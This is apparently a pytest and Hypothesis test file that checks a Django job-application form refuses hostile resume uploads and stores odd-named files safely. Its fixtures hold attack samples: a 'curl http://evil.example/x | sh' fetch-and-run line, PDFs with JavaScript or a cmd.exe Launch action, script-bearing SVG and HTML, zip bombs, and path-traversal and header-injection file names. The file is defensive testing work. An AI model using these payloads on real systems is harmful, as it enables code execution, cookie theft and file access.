"""Hostile resume uploads through the real application page, end to end: the multipart body is built by
hand so that file names reach Django's parser exactly as an attacker would send them (the test client
would strip folders from the name first). ``test_files.py`` checks ``validate_resume`` itself; here every
file of a hostile corpus built in code (polyglots, renamed programs, zip and decompression bombs, PDFs
with scripts, web pages as pictures, odd names, empty and oversized files) must be refused with the
form's error on the resume field (200, never a 500) and leave no row and no file behind, while an odd
name on a valid file is stored under a random name inside the private folder.
"""

import functools
import io
import re
import struct
import unicodedata
import urllib.parse
import zipfile
import zlib
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils.html import escape
from hypothesis import event, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from candidates.files import MB, display_name
from candidates.models import Application, Resume
from tests.candidates.test_files import (
    MZ,
    make_docx,
    make_jpeg,
    make_pdf,
    make_png,
    make_zip,
    object_stream,
    pdf_stream,
    webp_extended,
    webp_lossless,
)
from tests.candidates.test_fuzz_apply import (
    FUZZ,
    UNICODE_CHARS,
    Snapshot,
    isolated_example,
)

pytestmark = pytest.mark.django_db

STORED_NAME = re.compile(r"resumes/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|docx|jpg|png|webp)")
FORM = {
    "full_name": "王小明", "email": "xiaoming@example.com", "phone": "13812345678", "current_city": "上海",
    "education": "associate", "graduation_year": "2020", "years_experience": "3", "years_customer_service": "2",
    "cs_practice_hours": "0", "language_zh": "native", "source": "careers_page", "consent": "on", "website": "",
}  # fmt: skip
ESSAY = "一位客户因为退款延误非常生气，我先倾听并道歉，然后……"


# --- The request, built by hand ----------------------------------------------------------------------------


def multipart(fields: dict, files: list[tuple[str, str, bytes]], *, style: str = "rfc2231") -> tuple[bytes, str]:
    """A multipart/form-data body. ``style`` is how the file name is written: ``rfc2231`` (filename*=
    UTF-8''…, percent-encoded, so NUL, newlines, quotes and backslashes arrive as they are) or ``browser``
    (raw UTF-8 in quotes, with quotes and line breaks escaped as %22, %0D, %0A, as the HTML standard says)."""
    boundary = "----fuzz-boundary-7MA4YWxkTrZu0gW"
    out = io.BytesIO()
    for name, value in fields.items():
        for item in value if isinstance(value, list) else [value]:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
            out.write(str(item).encode() + b"\r\n")
    for field, filename, content in files:
        if style == "rfc2231":
            disposition = f"filename*=UTF-8''{urllib.parse.quote(filename, safe='')}"
        else:
            escaped = filename.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
            disposition = f'filename="{escaped}"'
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; {disposition}\r\n'.encode())
        out.write(b"Content-Type: application/octet-stream\r\n\r\n" + content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


@pytest.fixture
def posting(make_posting):
    return make_posting()  # the resume is required


@pytest.fixture
def send(client, posting, settings):
    settings.APPLY_RATE_PER_IP_HOUR = settings.APPLY_RATE_PER_EMAIL_DAY = 10**6

    def send(files, *, style="rfc2231", fields=None):
        essay = posting.questions.get()
        body, content_type = multipart((fields or FORM) | {f"q_{essay.pk}": ESSAY}, files, style=style)
        return client.generic("POST", reverse("careers:apply", args=[posting.slug]), body,
                              content_type=content_type, HTTP_ACCEPT_LANGUAGE="en")  # fmt: skip

    return send


def assert_refused(response, snapshot, code):
    """200, the page again with the error on the resume field, nothing written."""
    assert response.status_code == 200
    errors = response.context["form"].errors.as_data()
    assert "resume" in errors, response.context["form"].errors
    message = errors["resume"][0].messages[0]
    assert escape(message) in response.content.decode(), message
    assert errors["resume"][0].code == code, errors["resume"][0]
    snapshot.assert_nothing_written()


def assert_stored_safely(response, snapshot, private_media, content: bytes) -> Resume:
    """302; one application with one resume under a random name inside the private folder; the
    original name kept only as a display name (no folders, control or bidi characters)."""
    assert response.status_code == 302, response.context and response.context["form"].errors
    resume = Resume.objects.get(application=Application.objects.get())
    assert STORED_NAME.fullmatch(resume.file.name), resume.file.name
    assert ".." not in Path(resume.file.name).parts
    stored = Path(resume.file.path).resolve()
    assert stored.is_relative_to(Path(private_media).resolve())
    assert snapshot.new_files() == {stored}
    assert stored.read_bytes() == content
    name = resume.original_name
    assert name
    assert len(name) <= 150
    assert name == display_name(name)
    assert "/" not in name
    assert "\\" not in name
    assert not name.startswith(".")
    assert not any(unicodedata.category(ch).startswith("C") for ch in name)
    return resume


# --- The corpus ----------------------------------------------------------------------------------------------


def _zip_patch_sizes(data: bytes, member: str, size: int) -> bytes:
    """Make the local and central headers of ``member`` lie about its expanded size."""
    raw = bytearray(data)
    encoded = member.encode()
    for signature, size_at, name_length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        position = raw.find(signature)
        while position != -1:
            length = int.from_bytes(raw[position + name_length_at : position + name_length_at + 2], "little")
            if raw[position + name_at : position + name_at + length] == encoded:
                raw[position + size_at : position + size_at + 4] = size.to_bytes(4, "little")
            position = raw.find(signature, position + 4)
    return bytes(raw)


def _zip_overlapping(data: bytes, member: str, copies: int) -> bytes:
    """A "better zip bomb" shape: ``copies`` more central-directory entries, each under its own name,
    all pointing at the local header (and data) of ``member``."""
    end = data.rfind(b"PK\x05\x06")
    entries, directory_size, directory_at = struct.unpack("<HII", data[end + 10 : end + 20])
    directory = data[directory_at : directory_at + directory_size]
    position = directory.find(b"PK\x01\x02")
    record = None
    while position != -1:
        name_length, extra_length, comment_length = struct.unpack("<HHH", directory[position + 28 : position + 34])
        size = 46 + name_length + extra_length + comment_length
        if directory[position + 46 : position + 46 + name_length] == member.encode():
            record = directory[position : position + size]
        position = directory.find(b"PK\x01\x02", position + size)
    assert record is not None
    names = [f"{n:0{len(member)}d}"[-len(member) :].encode() for n in range(copies)]  # same length: offsets hold
    extra = b"".join(record[:46] + name + record[46 + len(name) :] for name in names)
    directory += extra
    tail = data[end + 20 :]
    return (
        data[:directory_at]
        + directory
        + data[end : end + 8]
        + struct.pack("<HHII", entries + copies, entries + copies, len(directory), directory_at)
        + tail
    )


@functools.cache
def zip_bomb_docx() -> bytes:
    """A .docx whose one part expands 8 MB of zeros from a few kilobytes (ratio about 1000:1)."""
    return make_docx(("word/media/image1.png", b"\x00" * (8 * MB)))


@functools.cache
def lying_zip_bomb_docx() -> bytes:
    """A .docx whose document part inflates to 8 MB while its headers say 2 KB."""
    bomb = make_docx(("word/media/big.xml", b"\x00" * (8 * MB)))
    return _zip_patch_sizes(bomb, "word/media/big.xml", 2048)


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)

# (id, file name, content builder, the refusal's code: candidates.files.MESSAGES, or Django's "empty" and
# "required" when the parser drops a name that is no name at all, so the form sees no file)
REFUSED = [
    ("pdf+zip polyglot", "resume.pdf", lambda: make_pdf() + make_zip([("evil.js", b"alert(1)")]), "polyglot"),
    ("zip with a pdf header inside", "resume.docx",
     lambda: make_docx(first=[("cover.pdf", make_pdf())], compression=zipfile.ZIP_STORED), "polyglot"),
    ("jpeg+zip polyglot", "photo.jpg", lambda: make_jpeg() + make_zip([("a.txt", b"a")]), "polyglot"),
    ("png+pdf polyglot", "photo.png", lambda: make_png()[:33] + b"\x00\x00\x00\x10tEXt%PDF-1.7 evil" + make_png()[33:],
     "polyglot"),
    ("windows exe as pdf", "resume.pdf", lambda: MZ + b"\x00" * 512, "program"),
    ("windows exe as pdf, upper case", "RESUME.PDF", lambda: MZ, "program"),
    ("elf as docx", "resume.docx", lambda: b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, "program"),
    ("mach-o as jpg", "photo.jpg", lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64, "program"),
    ("shell script as pdf", "resume.pdf", lambda: b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "program"),
    ("zip bomb docx (ratio)", "resume.docx", zip_bomb_docx, "docx_bomb"),
    ("zip bomb docx (lying sizes)", "resume.docx", lying_zip_bomb_docx, "damaged"),
    ("zip bomb docx (overlapping entries)", "resume.docx",
     lambda: _zip_overlapping(make_docx(), "word/document.xml", 200), "damaged"),
    ("nested archive in docx", "resume.docx",
     lambda: make_docx(("word/embeddings/x.zip", make_zip([("a", b"a")]))), "docx_nested"),
    ("macro docx", "resume.docx", lambda: make_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 64)),
     "docx_macros"),
    ("traversal inside docx", "resume.docx", lambda: make_docx(("../../evil.sh", b"#!/bin/sh")), "docx_unsafe_names"),
    ("decompression-bomb png", "photo.png", lambda: make_png(100_000, 100_000, idat=zlib.compress(b"\x00" * 64)),
     "picture_too_large"),
    ("png one pixel too wide", "photo.png", lambda: make_png(12_001, 1, idat=zlib.compress(b"\x00" * 64)),
     "picture_too_large"),
    ("decompression-bomb jpeg", "photo.jpg", lambda: make_jpeg(65_535, 65_535), "picture_too_large"),
    ("decompression-bomb webp", "photo.webp", lambda: webp_extended(16_384, 16_384), "picture_too_large"),
    ("pdf with OpenAction JavaScript", "resume.pdf", lambda: make_pdf(JAVASCRIPT, catalog=b"/OpenAction 5 0 R "),
     "pdf_active"),
    ("pdf with #-escaped JavaScript", "resume.pdf",
     lambda: make_pdf(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", catalog=b"/OpenAction 5 0 R "), "pdf_active"),
    ("pdf with JavaScript in an object stream", "resume.pdf",
     lambda: make_pdf(object_stream(JAVASCRIPT), catalog=b"/OpenAction 6 0 R "), "pdf_active"),
    ("pdf with an AA JavaScript", "resume.pdf", lambda: make_pdf(catalog=b"/AA << /O << /S /JavaScript /JS (x) >> >> "),
     "pdf_active"),
    ("pdf with a Launch action", "resume.pdf",
     lambda: make_pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 5 0 R "), "pdf_active"),
    ("pdf with an embedded file", "resume.pdf",
     lambda: make_pdf(pdf_stream(MZ, b"/Type /EmbeddedFile ")), "pdf_active"),
    ("pdf cut short", "resume.pdf", lambda: make_pdf()[:-20], "pdf_damaged"),
    ("html as png", "photo.png", lambda: b"<html><body><script>alert(1)</script></body></html>", "web_page"),
    ("svg with script as png", "photo.png", lambda: SVG, "web_page"),
    ("svg with bom and blanks as png", "photo.png", lambda: b"\xef\xbb\xbf \r\n\t" + SVG, "web_page"),
    ("utf-16 html as png", "photo.png", lambda: "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
     "web_page"),
    ("old word file as docx", "resume.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "old_office"),
    ("rar as pdf", "resume.pdf", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "archive"),
    ("gif as png", "photo.png", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "picture_format"),
    ("random bytes", "resume.pdf", lambda: bytes(range(256)) * 4, "unsupported"),
    ("empty file", "resume.pdf", lambda: b"", "empty"),
    ("pdf named exe", "resume.exe", make_pdf, "extension_mismatch"),
    ("pdf behind an RTL override ending in exe", "cv\u202efdp.exe", make_pdf, "extension_mismatch"),
    ("exe behind an RTL override", "cv\u202efdp.pdf", lambda: MZ, "program"),
    ("pdf whose NUL hides .exe", "cv.pdf\x00.exe", make_pdf, "extension_mismatch"),
    ("name that is only dots", "..", make_pdf, "required"),
    ("name that is one dot", ".", make_pdf, "required"),
    ("name that is a folder", "/", make_pdf, "required"),
    ("name that is a windows folder", "C:\\Windows\\", make_pdf, "required"),
    ("name of only unprintable characters", "\x00\x7f\u202e\u200b", make_pdf, "required"),
]  # fmt: skip


@pytest.mark.parametrize("style", ["rfc2231", "browser"])
@pytest.mark.parametrize(("name", "build", "code"), [pytest.param(*case[1:], id=case[0]) for case in REFUSED])
def test_hostile_files_are_refused_on_the_form_and_write_nothing(send, private_media, name, build, code, style):
    snapshot = Snapshot(private_media)
    response = send([("resume", name, build())], style=style)
    assert_refused(response, snapshot, code)


# (id, file name as sent, the display name expected)
ODD_NAMES = [
    ("unix traversal", "../../etc/passwd.pdf", "passwd.pdf"),
    ("windows traversal", "..\\..\\x.pdf", "x.pdf"),
    ("absolute windows path", "C:\\Users\\Public\\cv.pdf", "cv.pdf"),
    ("entity-encoded traversal", "&#46;&#46;&#47;&#46;&#46;&#47;x.pdf", "x.pdf"),
    ("percent-encoded traversal kept as text", "%2e%2e%2fx.pdf", "%2e%2e%2fx.pdf"),
    ("NUL in the middle", "a\x00b.pdf", "ab.pdf"),
    ("newline", "cv\n.pdf", "cv.pdf"),
    ("header injection", "cv.pdf\r\nX-Injected: 1", "cv.pdfX-Injected: 1"),
    ("header injection with a folder", "cv.pdf\r\nContent-Type: text/html", "html"),
    ("300 characters", "a" * 296 + ".pdf", "a" * 146 + ".pdf"),
    ("300 mixed characters", "简" * 60 + "a" * 236 + ".pdf", "简" * 60 + "a" * 86 + ".pdf"),
    ("RTL override, harmless end", "cv\u202egpj.pdf", "cvgpj.pdf"),
    ("only an extension", ".pdf", "resume.pdf"),
    ("trailing dots and blanks", "cv.pdf. . ", "cv.pdf"),
    ("windows device name", "CON.pdf", "CON.pdf"),
    ("script tag", "<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
    ("quotes and semicolons", "a\";b'.pdf", "a\";b'.pdf"),
    ("emoji and combining marks", "😀cv\u0301.pdf", "😀cv\u0301.pdf"),
    ("fullwidth dot is no extension", "cv．exe", "cv．exe"),
]


@pytest.mark.parametrize("style", ["rfc2231", "browser"])
@pytest.mark.parametrize(("sent", "shown"), [pytest.param(*case[1:], id=case[0]) for case in ODD_NAMES])
def test_odd_names_on_a_valid_file_are_stored_under_a_random_name(send, private_media, sent, shown, style):
    content = make_pdf()
    snapshot = Snapshot(private_media)
    resume = assert_stored_safely(send([("resume", sent, content)], style=style), snapshot, private_media, content)
    if style == "rfc2231" or not set(sent) & set('"\r\n'):  # a browser writes those three as %22, %0D, %0A
        assert resume.original_name == unicodedata.normalize("NFC", shown)
    assert resume.file.name.endswith(".pdf")


@pytest.mark.parametrize(
    ("content", "extension"),
    [(make_docx, "docx"), (lambda: make_png(), "png"), (lambda: make_jpeg(), "jpg"), (lambda: webp_lossless(), "webp")],
    ids=["docx", "png", "jpeg", "webp"],
)
def test_a_valid_file_under_a_name_without_extension_gets_its_kinds_extension(send, private_media, content, extension):
    data = content()
    snapshot = Snapshot(private_media)
    resume = assert_stored_safely(send([("resume", "../../../../tmp/x", data)]), snapshot, private_media, data)
    assert resume.file.name.endswith(f".{extension}")


def test_a_name_longer_than_the_parsers_header_limit_is_a_400_that_writes_nothing(send, private_media):
    """Django refuses a part header above 1 KB (here 296 Chinese characters, percent-encoded) before
    the form sees it: a 400, not a 500, and nothing written."""
    snapshot = Snapshot(private_media)
    response = send([("resume", "简" * 296 + ".pdf", make_pdf())])
    assert response.status_code == 400
    snapshot.assert_nothing_written()


def test_exactly_the_size_limit_is_accepted_and_one_byte_more_refused(send, private_media, settings):
    settings.RESUME_MAX_MB = 1
    pdf = make_pdf()
    at_limit = pdf + b" " * (1 * MB - len(pdf))
    snapshot = Snapshot(private_media)
    assert_refused(send([("resume", "big.pdf", at_limit + b" ")]), snapshot, "too_large")
    assert_stored_safely(send([("resume", "big.pdf", at_limit)]), snapshot, private_media, at_limit)


def test_two_resumes_in_one_post_the_last_one_counts(send, private_media):
    """A second file part under the same name: the form reads the last one; a hostile one first does
    not slip in, and a hostile one last is refused."""
    snapshot = Snapshot(private_media)
    assert_refused(send([("resume", "a.pdf", make_pdf()), ("resume", "b.pdf", MZ)]), snapshot, "program")
    content = make_pdf()
    resume = assert_stored_safely(
        send([("resume", "a.pdf", MZ), ("resume", "b.pdf", content)]), snapshot, private_media, content
    )
    assert resume.original_name == "b.pdf"


@pytest.mark.parametrize(
    ("fields", "files"),
    [
        (FORM | {"resume": "MZ\x90 not a file"}, []),
        (FORM, [("full_name", "cv.pdf", make_pdf())]),
        (FORM, [("website", "cv.pdf", make_pdf())]),
    ],
    ids=["resume-as-text", "file-in-a-text-field", "file-in-the-honeypot"],
)
def test_a_file_where_text_belongs_or_text_where_the_file_belongs(send, private_media, fields, files):
    snapshot = Snapshot(private_media)
    response = send(files, fields=fields)
    assert response.status_code == 200
    assert response.context["form"].errors
    snapshot.assert_nothing_written()


def test_text_with_a_nul_where_the_file_belongs_is_a_bad_request(send, private_media):
    snapshot = Snapshot(private_media)
    response = send([], fields=FORM | {"resume": "MZ\x90\x00 not a file"})
    assert response.status_code == 400
    snapshot.assert_nothing_written()


MUTATION_BASES = {
    "pdf": (make_pdf(), "resume.pdf"),
    "docx": (make_docx(), "resume.docx"),
    "png": (make_png(), "photo.png"),
    "jpeg": (make_jpeg(), "photo.jpg"),
    "webp": (webp_lossless(), "photo.webp"),
}


@st.composite
def mutated_files(draw):
    """A valid file with a few bytes changed, bytes inserted, cut short or with something appended,
    under its own name or a random one."""
    base, name = MUTATION_BASES[draw(st.sampled_from(sorted(MUTATION_BASES)))]
    data = bytearray(base)
    for _ in range(draw(st.integers(0, 4))):
        position = draw(st.integers(0, len(data) - 1))
        data[position] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        position = draw(st.integers(0, len(data)))
        data[position:position] = draw(st.sampled_from([b"%PDF-1.7", b"PK\x03\x04", b"MZ", b"<script>", b"\x00" * 8]))
    if draw(st.booleans()):
        del data[draw(st.integers(1, len(data))) :]
    if draw(st.booleans()):
        data += draw(st.sampled_from([make_zip([("a", b"a")]), b"<html>", b"/JavaScript", b"\x00" * 100]))
    name = draw(st.one_of(st.just(name), st.text(UNICODE_CHARS, min_size=1, max_size=40)))
    return name, bytes(data)


@given(upload=mutated_files(), style=st.sampled_from(["rfc2231", "browser"]))
@hypothesis_settings(FUZZ, max_examples=50)
def test_mutated_files_are_refused_cleanly_or_stored_safely(send, private_media, upload, style):
    name, content = upload
    with isolated_example():
        snapshot = Snapshot(private_media)
        try:
            response = send([("resume", name, content)], style=style)
            assert response.status_code in (200, 302)
            if response.status_code == 302:
                event("outcome: stored")
                assert_stored_safely(response, snapshot, private_media, content)
            else:
                event(f"outcome: refused ({response.context['form'].errors.as_data()['resume'][0].code})")
                assert response.context["form"].errors
                snapshot.assert_nothing_written()
        finally:
            snapshot.remove_new_files()
